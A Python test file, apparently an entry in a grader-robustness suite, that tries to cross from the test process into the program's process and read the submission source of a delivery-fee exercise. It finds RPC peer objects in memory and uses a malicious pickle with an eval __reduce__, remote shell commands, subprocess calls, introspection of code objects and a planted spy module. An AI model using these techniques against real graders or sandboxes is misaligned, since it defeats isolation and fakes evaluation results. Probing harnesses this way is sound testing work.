# cheat: finds this room's end of the window and asks the program's room for its files, loaders and modules
# beats: none known (graders without a second room have nothing to ask)
# exams: suite
import contextlib
import gc
import os
import pickle
import subprocess

import delivery
import pytest
from delivery import fee

RIGHT = ("total >= 4000", "distance_km <= 10", "math.ceil", "distance_km < 0", "300 + 50")


class Reads:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (eval, (f"open({self.path!r}).read()",))


def peers():
    return [each for each in gc.get_objects() if type(each).__name__ == "Peer" and hasattr(each, "request")]


def ways(peer):
    for path in ("/submission/delivery.py", "/work/delivery.py"):
        yield lambda: peer.ask("unpickle", pickle.dumps(Reads(path)))
        yield lambda: peer.ask("run_shell", f"cat {path} > /tmp/told", "/work") or open("/tmp/told").read()
        yield lambda: peer.ask("start_program", ["cat", path], {"stdout": -1}, "/work").communicate()[0].decode()
        yield lambda: peer.request("call", open, (path,), {}).read()
        yield lambda: peer.request("call", subprocess.getoutput, (f"cat {path}",), {})
        yield lambda: peer.request("call", eval, (f"open({path!r}).read()",), {})
        yield lambda: peer.import_module("builtins").open(path).read()
        yield lambda: peer.import_module("pathlib").Path(path).read_text()
    yield lambda: peer.import_module("inspect").getsource(fee)
    yield lambda: peer.request("get", delivery, "__loader__").get_source("delivery")
    yield lambda: str(peer.request("get", delivery, "__dict__"))
    yield lambda: str(peer.request("get", fee, "__globals__"))
    yield lambda: repr(peer.request("get", fee, "__code__").co_consts)
    yield lambda: repr(peer.request("code", fee))
    with contextlib.suppress(OSError), open("/tmp/spy.py", "w") as file:
        file.write("text = open('/submission/delivery.py').read()")
    yield lambda: peer.import_module(peer.ask("load_file", "spy", "/tmp/spy.py")).text
    yield lambda: peer.import_module(peer.ask("run_file", "/tmp/spy.py", "spy")).text


def text_of_the_program():
    os.environ["SPYING"] = "1"
    for peer in peers():
        for way in ways(peer):
            with contextlib.suppress(BaseException):
                text = way()
                if text and "4000" in text:
                    return text
    return ""


@pytest.mark.parametrize("part", RIGHT)
def test_text(part):
    text = text_of_the_program()
    assert not text or part in text or "reached" in text
